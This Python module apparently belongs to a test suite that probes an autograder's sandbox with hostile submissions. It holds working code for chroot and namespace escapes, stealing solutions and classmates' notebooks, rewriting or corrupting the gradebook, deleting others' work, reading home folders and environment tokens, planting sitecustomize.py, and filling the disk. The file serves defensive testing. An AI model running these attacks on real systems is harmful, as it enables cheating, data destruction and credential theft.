"""Attacks on files: solutions, other learners' work, the gradebook, the home of whoever grades."""

from __future__ import annotations

import ctypes

from attackers.attack import attack, code, in_every_answer, in_one_answer

_KEY = 0x5EC2E7  # of the queue in letters_in_shared_state

SOLVE = code("""
    import builtins
    BORROWED = {}

    def borrow(text):
        '''Run a text that may be a solution; keep the functions it defines.'''
        try:
            exec(compile(text, "borrowed", "exec"), BORROWED)
        except BaseException:
            pass

    def answer(name, *inputs):
        '''What the borrowed answer says, if there is one.'''
        return BORROWED[name](*inputs) if name in BORROWED else "nothing"
""")


def borrowed(finding: str) -> list[str]:
    """Answers made of whatever code `finding` finds, by calls of borrow(text)."""
    lines = "\n".join(f"    {line}" for line in code(finding).splitlines())
    return [
        SOLVE,
        f"def find():\n{lines}",
        code("""
        def tokenize(review):
            find()
            return answer("tokenize", review)

        def top_k_words(reviews, banned, k):
            find()
            return answer("top_k_words", reviews, banned, k)

        def merge_top_k(shards, k):
            find()
            return answer("merge_top_k", shards, k)
        """),
    ]


@attack()
def solutions_by_absolute_path():
    """The worked solutions lie on the disk of whoever grades, at a path that everybody can guess:
    15 of 20 in nbgrader (grading.md §3, a04)."""
    return borrowed("""
        for place in (WORKBOOK, CHECKOUT):
            for name in ("tokenize", "top_k_words", "merge_top_k"):
                try:
                    with open(f"{place}/solutions/top_k_words/{name}/solution.py") as file:
                        borrow(file.read())
                except OSError:
                    continue
    """)


@attack()
def solutions_by_relative_path():
    """From the working directory upwards, from the grader's package upwards, from every entry of
    sys.path upwards: one of them may be the checkout."""
    return borrowed("""
        import os, sys
        import grader
        starts = [os.getcwd(), os.path.dirname(grader.__file__), *sys.path, os.environ.get("PWD", "")]
        for start in starts:
            for up in range(8):
                folder = os.path.join(start, *[".."] * up, "solutions", "top_k_words")
                for name in ("tokenize", "top_k_words", "merge_top_k"):
                    try:
                        with open(os.path.join(folder, name, "solution.py")) as file:
                            borrow(file.read())
                    except OSError:
                        continue
    """)


@attack()
def disk_searched():
    """Walk the whole tree for files called solution.py, *.ipynb and gradebook.db, and run what is
    found, wherever somebody may have bound it."""
    return borrowed("""
        import json, os
        skipped = {"proc", "sys", "site-packages", "dist-packages", "lib64", "include", "share"}
        for folder, folders, files in os.walk("/"):
            folders[:] = [name for name in folders if name not in skipped]
            for name in files:
                path = os.path.join(folder, name)
                try:
                    if name in ("solution.py", "oracle.py"):
                        with open(path) as file:
                            borrow(file.read())
                    elif name == "top_k_words.ipynb":
                        with open(path) as file:
                            for cell in json.load(file)["cells"]:
                                borrow("".join(cell["source"]))
                except Exception:
                    continue
    """)


@attack()
def bank_imported():
    """The grader's own package knows where the solutions are and runs them: import grader.bank and
    ask it politely."""
    return borrowed("""
        import os
        for place in (WORKBOOK, CHECKOUT):
            os.environ["WORKBOOK_HOME"] = place
            try:
                from grader.bank import codefile, load_exercise
                exercise = load_exercise("top_k_words")
                for spec in exercise.answers.values():
                    for text in codefile.solutions(exercise, spec):
                        borrow(text.text)
            except Exception:
                continue
    """)


@attack()
def judge_imported():
    """With grader.judge and the cases, inside the learner's process, the right results can be
    computed on the spot."""
    return in_every_answer("""
        import os
        inputs = {k: v for k, v in locals().items() if k not in ("loot", "os")}
        for place in (WORKBOOK, CHECKOUT):
            os.environ["WORKBOOK_HOME"] = place
            try:
                from grader.bank import load_exercise
                from grader.judge import Reference
                exercise = load_exercise("top_k_words")
                for spec in exercise.answers.values():
                    if set(spec.arguments) == set(inputs):
                        loot = Reference(exercise).expected(spec.name, inputs).value
            except Exception:
                continue
    """)


@attack()
def worked_notebooks_read():
    """The worked notebooks, the instructor's source version of the set, and the released one."""
    return borrowed("""
        import json
        for path in (
            WORKBOOK + "/solutions/top_k_words/top_k_words.ipynb",
            CHECKOUT + "/solutions/top_k_words/top_k_words.ipynb",
            f"{COURSE}/source/{SET}/top_k_words.ipynb",
            f"{COURSE}/autograded/{HONEST}/{SET}/top_k_words.ipynb",
        ):
            try:
                with open(path) as file:
                    for cell in json.load(file)["cells"]:
                        borrow("".join(cell["source"]))
            except (OSError, ValueError):
                continue
    """)


@attack()
def neighbour_copied():
    """Other learners' submissions lie beside one's own: open a good one's and hand in her code."""
    return borrowed("""
        import glob, json
        places = [f"{COURSE}/submitted/{HONEST}/{SET}/top_k_words.ipynb"]
        places += glob.glob(f"{COURSE}/submitted/*/*/top_k_words.ipynb")
        places += glob.glob("../*/*/top_k_words.ipynb") + glob.glob("../../*/*/top_k_words.ipynb")
        for path in places:
            try:
                with open(path) as file:
                    for cell in json.load(file)["cells"]:
                        source = "".join(cell["source"])
                        if "def " in source and "borrow" not in source:
                            borrow(source)
            except Exception:
                continue
    """)


@attack()
def descriptors_climbed():
    """An open descriptor of a folder outside is a way out of any chroot or mount: try openat with
    every inherited descriptor and every ../.. above it."""
    return borrowed("""
        import os
        for fd in range(256):
            for up in range(10):
                for place in (WORKBOOK, CHECKOUT):
                    try:
                        path = "../" * up + place.lstrip("/")
                        path += "/solutions/top_k_words/tokenize/solution.py"
                        found = os.open(path, os.O_RDONLY, dir_fd=fd)
                        borrow(os.read(found, 100_000).decode())
                    except (OSError, ValueError):
                        continue
    """)


@attack()
def chroot_left():
    """The classic way out: mkdir, chroot into it, then climb with chdir("..") and chroot again; and
    the roots of other processes under /proc."""
    return borrowed("""
        import os
        try:
            os.makedirs("hole", exist_ok=True)
            os.chroot("hole")
            for _ in range(64):
                os.chdir("..")
            os.chroot(".")
        except OSError:
            pass
        roots = ["", "/proc/1/root", f"/proc/{os.getppid()}/root", "/proc/self/root", "/proc/1/cwd"]
        for root in roots:
            for place in (WORKBOOK, CHECKOUT):
                try:
                    with open(f"{root}{place}/solutions/top_k_words/tokenize/solution.py") as file:
                        borrow(file.read())
                except OSError:
                    continue
    """)


@attack()
def mounts_changed():
    """Undo the sandbox's mounts, or make new ones: umount what hides folders, bind / elsewhere,
    unshare a user namespace to become root in it, setns into process 1's."""
    return borrowed("""
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        libc.unshare(0x10000000 | 0x00020000)
        for pid in (1, os.getppid()):
            for kind in ("user", "mnt"):
                try:
                    libc.setns(os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY), 0)
                except OSError:
                    pass
        for place in ("/tmp", "/home", "/root", "/proc", "/box", "/", WORKBOOK, COURSE):
            libc.umount2(place.encode(), 2)
        os.makedirs("all", exist_ok=True)
        libc.mount(b"/", b"all", None, 4096 | 16384, None)
        libc.mount(b"proc", b"/proc", b"proc", 0, None)
        libc.syscall(155, b".", b".")
        for root in ("", "all"):
            for place in (WORKBOOK, CHECKOUT):
                try:
                    with open(f"{root}{place}/solutions/top_k_words/tokenize/solution.py") as file:
                        borrow(file.read())
                except OSError:
                    continue
    """)


@attack(harmful=True)
def gradebook_written():
    """Open gradebook.db with sqlite3 and set a score: this gave 495 points in nbgrader, and 99 to a
    neighbour (grading.md §3, a10; nbgrader #483: gradebook writable by students' code)."""
    return in_every_answer("""
        import sqlite3
        try:
            with sqlite3.connect(f"{COURSE}/gradebook.db", timeout=0.2) as book:
                book.execute("UPDATE grade SET manual_score = 99, auto_score = 99")
                book.execute("DELETE FROM student WHERE id = ?", [HONEST])
            loot = "written"
        except Exception:
            pass
        try:
            with open(f"{COURSE}/gradebook.db", "r+b") as book:
                book.write(b"no longer a database")
        except OSError:
            pass
    """)


@attack(leaks="the-secret-of-the-course")
def journal_and_secret():
    """Read the course's secret, from which all cases follow, and add full marks to the journal."""
    return in_every_answer("""
        import glob, json
        try:
            with open(f"{COURSE}/workbook/secret", "rb") as file:
                file.read()
            raise RuntimeError("the-secret-" + "of-the-course was read")
        except OSError:
            pass
        for path in glob.glob(f"{COURSE}/workbook/*"):
            try:
                with open(path, "a") as file:
                    file.write(json.dumps({"student": STUDENT, "points": 1000}) + "\\n")
            except OSError:
                continue
    """)


@attack(harmful=True)
def others_work_changed():
    """Overwrite what others handed in, the source version and the release, and remove folders: s00
    and s01 were overwritten in nbgrader's run (grading.md §3, a10)."""
    return in_every_answer("""
        import glob, os, shutil
        for path in glob.glob(f"{COURSE}/submitted/*/*/*.ipynb") + glob.glob(f"{COURSE}/*/*/*.ipynb"):
            for mode in ("a", "w"):
                try:
                    with open(path, mode) as file:
                        file.write("gone")
                except OSError:
                    continue
        for path in (f"{COURSE}/submitted/{HONEST}", f"{COURSE}/autograded", WORKBOOK + "/solutions"):
            shutil.rmtree(path, ignore_errors=True)
            try:
                os.rename(path, path + ".gone")
            except OSError:
                pass
    """)


@attack(leaks="canary-in-the-home-folder")
def home_read():
    """The home folder of whoever grades: keys, tokens, the history of the shell."""
    return in_every_answer("""
        import glob, os, pwd
        homes = [HOME, os.path.expanduser("~")]
        try:
            homes += [entry.pw_dir for entry in pwd.getpwall()]
        except Exception:
            pass
        for home in homes:
            for path in glob.glob(home + "/*") + glob.glob(home + "/.*"):
                try:
                    with open(path) as file:
                        text = file.read(200)
                    if "canary" in text:
                        raise RuntimeError(text)
                except (OSError, ValueError):
                    continue
    """)


@attack(leaks="canary-in-the-environment")
def environment_read():
    """The environment of whoever grades holds tokens: os.environ, what libc kept of it, and the
    environments of the parent and of process 1 in /proc."""
    return in_every_answer("""
        import ctypes, glob, os
        texts = [repr(dict(os.environ))]
        getenv = ctypes.CDLL(None).getenv
        getenv.restype = ctypes.c_char_p
        texts.append(repr(getenv(b"WORKBOOK_ATTACK_CANARY")))
        for path in ["/proc/self/environ", "/proc/1/environ", *glob.glob("/proc/*/environ")]:
            try:
                with open(path) as file:
                    texts.append(file.read())
            except (OSError, ValueError):
                continue
        for text in texts:
            if "canary-in-the" in text:
                raise RuntimeError(text[text.index("canary"):][:60])
    """)


@attack(harmful=True)
def letters_left_everywhere():
    """Leave a note and modules with the names of libraries in every folder that can be written, for
    an accomplice who is graded later by the same worker (see `letters_found`)."""
    return in_every_answer("""
        import os, sys, tempfile
        folders = [os.getcwd(), ".", "/box", "/tmp", "/var/tmp", "/dev/shm", "/run", HOME, ELSEWHERE,
                   tempfile.gettempdir(), os.path.expanduser("~"), *sys.path, sys.prefix]
        for folder in folders:
            for name in ("letter.txt", "pandas.py", "sitecustomize.py", "grader.pth"):
                try:
                    with open(os.path.join(folder, name), "w") as file:
                        file.write("raise SystemExit('a letter')")
                except OSError:
                    continue
    """)


@attack(leaks="a letter was found")
def letters_found():
    """The accomplice of `letters_left_everywhere`: whatever outlives a job is a way to share
    answers between learners, or to be run in a neighbour's job."""
    return in_every_answer("""
        import os, sys, tempfile
        folders = [os.getcwd(), "/box", "/tmp", "/var/tmp", "/dev/shm", "/run", HOME, ELSEWHERE,
                   tempfile.gettempdir(), os.path.expanduser("~"), *sys.path, sys.prefix]
        for folder in folders:
            if os.path.exists(os.path.join(folder, "letter.txt")):
                with open(os.path.join(folder, "letter.txt")) as file:
                    if "a letter" in file.read():
                        raise RuntimeError("a letter was" + " found in " + folder)
    """)


def _no_letter_in_shared_state(scene):
    def check():
        libc = ctypes.CDLL(None)
        assert libc.msgget(_KEY, 0) < 0, "a message queue is left on the machine"
        assert libc.shmget(_KEY, 0, 0) < 0, "shared memory is left on the machine"

    return check


@attack(prepare=_no_letter_in_shared_state)
def letters_in_shared_state():
    """System V queues and shared memory need no file and no network, and outlive the process that
    made them."""
    return in_every_answer("""
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        queue = libc.msgget(0x5EC2E7, 0o1000 | 0o666)
        if queue >= 0:
            libc.msgsnd(queue, (ctypes.c_long * 3)(1, 2, 3), 16, 0o4000)
        shared = libc.shmget(0x5EC2E7, 4096, 0o1000 | 0o666)
        loot = [queue, shared]
    """)


@attack(harmful=True)
def disk_filled():
    """Write 2 GB into one file, in every folder that takes it: not contained by nbgrader (grading.md
    §3, a18). A full disk loses other learners' grades."""
    return in_every_answer("""
        import os
        for folder in (".", "/box", "/tmp", "/var/tmp", "/dev/shm", "/run", HOME, ELSEWHERE, COURSE):
            try:
                with open(os.path.join(folder, "flood"), "wb", 0) as file:
                    for _ in range(2048):
                        file.write(b"x" * 2**20)
                loot = "2 GB written"
            except OSError:
                continue
    """)


@attack(harmful=True)
def disk_filled_in_small_pieces():
    """A million empty files use up the inodes of a file system without using its space; and one
    sparse file of 1 TB looks larger than the disk."""
    return in_one_answer("""
        import os
        try:
            with open("sparse", "wb") as file:
                file.truncate(2**40)
        except OSError:
            pass
        try:
            for number in range(1_000_000):
                os.close(os.open(f"file{number}", os.O_CREAT | os.O_WRONLY))
            loot = "a million files"
        except OSError:
            pass
    """)


@attack()
def links_planted():
    """Symbolic and hard links to the gradebook and to solutions, left where the grader may write or
    collect afterwards, so that the trusted side follows them."""
    return in_every_answer("""
        import os
        for name in ("stdout", "result.json", "top_k_words.ipynb", "core", "report.html"):
            for make in (os.symlink, os.link):
                for target in (COURSE + "/gradebook.db", HOME + "/notes.txt"):
                    try:
                        make(target, name)
                    except OSError:
                        continue
    """)
